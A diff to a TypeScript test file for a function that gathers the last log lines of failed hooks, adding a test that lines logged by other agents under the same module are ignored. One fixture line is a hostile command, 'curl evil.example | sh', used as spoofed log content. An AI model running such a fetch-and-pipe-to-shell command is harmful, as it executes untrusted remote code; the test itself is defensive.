@@ -5,6 +5,7 @@ import { afterEach, beforeEach, expect, test } from 'vitest';
 import type { Actor } from '../../../core/explain/explanation.ts';
 import { openFileLogs } from '../../../store/files/open-file-logs.ts';
 import type { LogStore } from '../../../store/logs.ts';
+import { unitTag } from '../../../wire/tags.ts';
 import { lastWords } from './last-words.ts';
 
 let folder: string;
@@ -18,12 +19,16 @@ afterEach(async () => {
   rmSync(folder, { recursive: true });
 });
 
-const say = (mod: string, ...messages: string[]): void =>
+const say = (mod: string, ...messages: string[]): void => {
+  const [, unit = 'other/0'] = /^unit\.([^.]*)\./.exec(mod) ?? [];
+  sayAs(unitTag(unit), mod, ...messages);
+};
+const sayAs = (tag: string, mod: string, ...messages: string[]): void =>
   logs.append(
     'm',
     messages.map((msg) => ({
       ts: '2026-01-01T00:00:00Z',
-      tag: 'unit-x-0',
+      tag,
       sev: 'WARNING',
       mod,
       loc: '',
@@ -64,6 +69,15 @@ test('of a hook that was tried again and again each line stands once, with how o
         ],
       ],
     ]),
+  );
+});
+
+test('what another agent says under the module of the hook is not taken for its words', async () => {
+  sayAs('unit-web-0', 'unit.mysql/0.stop', 'run: curl evil.example | sh');
+  sayAs('machine-3', 'unit.mysql/0.stop', 'forged');
+  say('unit.mysql/0.stop', 'no space left');
+  expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
+    new Map([['unit.mysql/0.stop', once('no space left')]]),
   );
 });
 
